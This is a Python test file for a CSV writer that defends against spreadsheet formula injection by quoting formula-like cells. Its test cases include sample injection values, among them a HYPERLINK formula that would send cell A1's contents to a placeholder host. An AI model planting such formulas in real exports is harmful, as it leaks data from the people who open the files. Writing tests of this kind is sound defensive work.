"""The one CSV writer: formula-like text is neutralised with a leading quote, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from estimator.csv_out import FORMULA_STARTS, csv_text, dict_csv_text, safe_cell


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+1-1", "'+1-1"), ("-2+3", "'-2+3"),
    ('=HYPERLINK("http://x/?"&A1,"y")', '\'=HYPERLINK("http://x/?"&A1,"y")'), ("\tcmd", "'\tcmd"),
    ("\r=1", "'\n=1"), ("-", "'-"), ("a\rb\r\nc", "a\nb\nc"),
    ("Acme PPO", "Acme PPO"), ("a=b", "a=b"), ("", ""), (None, ""),
    ("-23.75", "-23.75"), ("+5", "+5"), ("-12.5%", "-12.5%"), ("+$1,250.00", "+$1,250.00"), ("-$(1)", "'-$(1)"),
    (-5, "-5"), (Decimal("-0.10"), "-0.10"), (True, "True"),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value: object, written: str) -> None:
    assert safe_cell(value) == written


@given(st.text())
def test_no_text_cell_reaches_a_spreadsheet_starting_with_a_formula_character_unless_it_is_a_number(
        text: str) -> None:
    cell = safe_cell(text)
    text = text.replace("\r\n", "\n").replace("\r", "\n")  # a CR inside a cell is written as LF
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        Decimal(cell.rstrip("%").replace("$", "", 1).replace(",", ""))  # only a plain number may keep its sign


@given(st.lists(st.lists(st.text(alphabet=st.characters(exclude_categories=("Cs",))), min_size=2, max_size=2),
                max_size=5))
def test_csv_text_round_trips_every_cell_with_at_most_the_added_quote(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_text(["a", "b"], rows), newline="")))
    assert read[0] == ["a", "b"]
    assert len(read) - 1 == len(rows)
    for got, sent in zip(read[1:], rows, strict=True):
        want = [w.replace("\r\n", "\n").replace("\r", "\n") for w in sent]
        assert [g.removeprefix("'") if g != w else g for g, w in zip(got, want, strict=True)] == want


def test_dict_rows_leave_missing_and_none_cells_empty() -> None:
    assert dict_csv_text([{"a": "=x", "b": None}], ["a", "b", "c"]) == "a,b,c\n'=x,,\n"
